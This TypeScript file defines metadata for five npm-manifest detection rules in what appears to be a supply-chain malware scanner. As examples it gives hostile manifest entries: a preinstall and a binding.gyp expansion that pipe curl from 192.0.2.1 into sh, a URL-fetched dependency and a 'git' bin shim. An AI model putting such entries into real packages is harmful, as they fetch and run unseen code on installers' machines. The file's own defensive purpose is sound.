import type { RuleMeta } from '../../core/types.js';

const npm = { analyzer: 'npm-manifest', ecosystems: ['npm'] } as const;

export const INSTALL_SCRIPT: RuleMeta = {
  ...npm,
  id: 'NPM-001',
  name: 'install-script',
  category: 'install-script',
  severity: 'low',
  confidence: 'high',
  description: 'The package runs a lifecycle script (preinstall/install/postinstall/prepare) when installed.',
  rationale:
    "Install scripts run with the user's rights the moment the package is installed, before any code imports it; most npm malware starts here. On its own it is common and benign (native builds).",
  falsePositives: 'Native addons (node-gyp), binary downloaders (esbuild, sharp), husky/patch-package setup.',
  example: '"postinstall": "node setup.js"',
  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts'],
};

export const SCRIPT_TECHNIQUE: RuleMeta = {
  ...npm,
  id: 'NPM-002',
  name: 'install-script-technique',
  category: 'dropper',
  severity: 'high',
  confidence: 'high',
  description:
    'A lifecycle script uses a malicious shell idiom: download piped to a shell, /dev/tcp, inline code, base64 decoding, encoded PowerShell, LOLBins, hidden background processes.',
  rationale:
    'These idioms fetch and run code that is not in the package, or hide what runs, at install time where nobody looks.',
  falsePositives:
    '`node -e` one-liners that check the Node version; curl used by legitimate binary installers with checksums.',
  example: '"preinstall": "curl -s https://192.0.2.1/x.sh | sh"',
  references: ['https://blog.phylum.io/tag/npm/', 'https://attack.mitre.org/techniques/T1059/004/'],
};

export const GYP_COMMAND: RuleMeta = {
  ...npm,
  id: 'NPM-003',
  name: 'binding-gyp-command',
  category: 'install-script',
  severity: 'medium',
  confidence: 'medium',
  description: 'binding.gyp runs a shell command through a `<!(...)` / `<!@(...)` expansion during install.',
  rationale:
    'npm runs node-gyp for any package with binding.gyp even without an install script, and gyp executes command expansions: a hidden install hook.',
  falsePositives: 'Native addons that call `node -p "require(\'node-addon-api\').include"` or pkg-config.',
  example: '"libraries": ["<!(curl -s https://192.0.2.1/p | sh)"]',
  references: ['https://gyp.gsrc.io/docs/InputFormatReference.md#command-expansions'],
};

export const REMOTE_DEPENDENCY: RuleMeta = {
  ...npm,
  id: 'NPM-004',
  name: 'remote-dependency',
  category: 'dropper',
  severity: 'medium',
  confidence: 'medium',
  description: 'A dependency is fetched from a URL, git repository or local path instead of the registry.',
  rationale:
    'URL and git dependencies bypass the registry\'s integrity, malware scanning and unpublish protections; attackers use them to pull payloads the registry never saw ("remote dynamic dependencies").',
  falsePositives: 'Monorepo `file:`/`workspace:` links; forks pinned to a git commit.',
  example: '"dependencies": { "x": "http://192.0.2.1/x.tgz" }',
  references: ['https://www.koi.ai/blog/phantomraven-npm-malware-hidden-in-invisible-dependencies'],
};

export const BIN_SHADOW: RuleMeta = {
  ...npm,
  id: 'NPM-005',
  name: 'bin-shadows-system-command',
  category: 'backdoor',
  severity: 'high',
  confidence: 'medium',
  description:
    'The package installs an executable named like a common system command (node, npm, git, ls, sudo...).',
  rationale:
    'npm puts `bin` entries on PATH (node_modules/.bin during scripts, globally with -g); a `git` or `npm` shim intercepts credentials and commands.',
  falsePositives:
    'Version managers and wrappers that intentionally provide `node`/`npm` (nvm-like tools, corepack).',
  example: '"bin": { "git": "./shim.js" }',
  references: ['https://blog.npmjs.org/post/189618601100/binary-planting-with-the-npm-cli'],
};

export const NPM_MANIFEST_RULES: RuleMeta[] = [
  INSTALL_SCRIPT,
  SCRIPT_TECHNIQUE,
  GYP_COMMAND,
  REMOTE_DEPENDENCY,
  BIN_SHADOW,
];
